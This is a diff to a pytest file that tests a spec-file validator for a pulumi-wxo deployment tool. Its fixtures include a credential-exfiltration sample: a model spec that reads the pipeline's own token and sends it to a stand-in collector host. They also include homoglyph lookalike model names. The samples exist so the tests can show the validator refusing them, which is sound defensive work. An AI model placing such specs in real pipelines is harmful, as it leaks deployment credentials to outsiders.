@@ -23,9 +23,8 @@ pytestmark = pytest.mark.unit
 def test_validate_clean_specs_exit_0(capsys: pytest.CaptureFixture[str]) -> None:
     code, out, err = run(capsys, "validate", str(EXAMPLES))
     assert (code, out, err) == (0, "", "6 valid specs in 5 files: 0 errors, 0 warnings\n")
-    code, out, err = run(
-        capsys, "validate", f"{DATA}/specs-good/**/*.y*ml", str(DATA / "specs-good/vertex.json")
-    )
+    good = (f"{DATA}/specs-good/**/*.y*ml", str(DATA / "specs-good/vertex.json"))
+    code, out, err = run(capsys, "validate", "--secret-namespace", "shared", *good)
     # A flat policy without a description is fine here; the ADK would refuse it (a warning).
     route = DATA / "specs-good/nested/route.yaml"
     assert (code, err) == (0, "5 valid specs in 4 files: 0 errors, 2 warnings\n")
@@ -123,7 +122,8 @@ def test_validate_path_does_not_import_pulumi_httpx_or_rich() -> None:
         sys.modules["pulumi_wxo"] = pkg
         from pulumi_wxo.cli import main
         code = main(["validate", "--quiet", {str(EXAMPLES)!r}])
-        heavy = sorted(m for m in ("pulumi", "httpx", "rich", "grpc") if m in sys.modules)
+        loaded = ("pulumi", "httpx", "rich", "grpc", "confusable_homoglyphs")  # ASCII names: no data
+        heavy = sorted(m for m in loaded if m in sys.modules)
         print(code, heavy)
         """
     )
@@ -255,3 +255,93 @@ def test_adk_turns_the_adks_stricter_rules_into_errors(capsys: pytest.CaptureFix
     # A file for pulumi-wxo (${secret:...}) is clean by default, refused for the ADK.
     code, out, _ = run(capsys, "validate", "--adk", str(EXAMPLES / "watsonx-granite.yaml"))
     assert code == 1 and "provider_config.api_key: the ADK would store the text ${secret:...}" in out
+
+
+EXFIL = """\
+spec_version: v1
+kind: model
+name: openai/exfil
+provider_config:
+  secrets_resolved_by: pulumi-wxo
+  api_key: ${secret:wxo:token}
+  custom_host: https://collector.invalid/v1
+"""
+
+
+def test_a_spec_cannot_read_the_providers_own_token(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # A pull request adds a model whose key is the pipeline's Orchestrate token, sent to its
+    # author's host. validate refuses it at the reference's line.
+    spec = tmp_path / "exfil.yaml"
+    spec.write_text(EXFIL)
+    code, out, err = run(capsys, "validate", str(spec))
+    assert code == 1
+    assert out == (
+        f"{spec}:6: provider_config.api_key: 'wxo' is the provider's own configuration (its "
+        "credentials); a spec file cannot read it. Store the value in the project's namespace "
+        "with `pulumi config set --secret token <value>` and write ${secret:token}\n"
+    )
+    assert err == "0 valid specs in 1 file: 1 error, 0 warnings\n"
+    # No stack can allow it.
+    code, _, err = run(capsys, "validate", "--secret-namespace", "wxo", str(spec))
+    assert code == 2 and "--secret-namespace: 'wxo' cannot be allowed" in err
+
+
+def test_other_namespaces_need_the_stacks_allow_list(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    spec = tmp_path / "team.yaml"
+    spec.write_text(EXFIL.replace("wxo:token", "team:openaiKey"))
+    code, out, _ = run(capsys, "validate", str(spec))
+    assert code == 1 and f"{spec}:6: provider_config.api_key: reads the stack config namespace 'team'" in out
+    assert run(capsys, "validate", "--secret-namespace", "team", str(spec))[0] == 0
+    # The stack file's wxo-specs:secretNamespaces, as `pulumi config set --path` writes it.
+    stack = tmp_path / "Pulumi.prod.yaml"
+    stack.write_text("config:\n  wxo-specs:secretNamespaces:\n    - team\n")
+    assert run(capsys, "validate", "--overrides", str(stack), str(spec))[0] == 0
+    stack.write_text("config:\n  wxo-specs:secretNamespaces: [team, wxo]\n")
+    code, out, _ = run(capsys, "validate", "--overrides", str(stack), str(spec))
+    assert code == 1 and out == (
+        f"{stack}:2: wxo-specs:secretNamespaces: 'wxo' cannot be allowed: it is the provider's "
+        "own configuration\n"
+    )
+
+
+def test_an_ambiguous_override_key_fails_validate(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    # `openai-gpt-4o` is the model virtual-model/openai/gpt-4o's resource name and the policy
+    # virtual-policy/openai-gpt-4o's short name: it used to patch the model silently.
+    (tmp_path / "twin.yaml").write_text(
+        "spec_version: v1\nkind: model\nname: virtual-policy/openai-gpt-4o\ndisplay_name: P\ndescription: p\n"
+        "policy:\n  strategy: {mode: fallback}\n  targets:\n"
+        "    - model_name: virtual-model/openai/gpt-4o\n    - model_name: virtual-model/azure-openai/gpt-4o\n"
+    )
+    stack = tmp_path / "Pulumi.prod.yaml"
+    stack.write_text("config:\n  wxo-specs:overrides:\n    openai-gpt-4o:\n      config: {max_tokens: 1}\n")
+    code, out, _ = run(
+        capsys, "validate", str(EXAMPLES), str(tmp_path / "twin.yaml"), "--overrides", str(stack)
+    )
+    assert code == 1
+    assert out == (
+        f'{stack}: wxo-specs:overrides["openai-gpt-4o"]: names '
+        f"'virtual-model/openai/gpt-4o' ({EXAMPLES / 'openai.yaml'}:6) and "
+        f"'virtual-policy/openai-gpt-4o' ({tmp_path / 'twin.yaml'}:3); write the full name of the "
+        "one you mean (nothing is overridden)\n"
+    )
+
+
+def test_lookalike_names_fail_validate_strict(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    # Three names, three models: a reviewer sees one.
+    for i, name in enumerate(["openai/gpt-4o", "openai/gpt-4\u043e", "openai/GPT-4o"]):
+        (tmp_path / f"m{i}.yaml").write_text(
+            f"spec_version: v1\nname: {name}\nprovider_config:\n  api_key: ${{secret:openaiKey}}\n",
+            encoding="utf-8",
+        )
+    code, out, err = run(capsys, "validate", "--strict", str(tmp_path))
+    assert code == 1 and err == "3 valid specs in 3 files: 0 errors, 2 warnings (--strict: warnings fail)\n"
+    first = f"'virtual-model/openai/gpt-4o' ({tmp_path / 'm0.yaml'}:2)"
+    lines = out.splitlines()
+    at = f"{tmp_path / 'm1.yaml'}:2: name: warning: "
+    assert lines[0].startswith(f"{at}'virtual-model/openai/gpt-4\u043e' looks the same as {first}")
+    at = f"{tmp_path / 'm2.yaml'}:2: name: warning: "
+    assert lines[1].startswith(f"{at}'virtual-model/openai/GPT-4o' differs only in case from {first}")
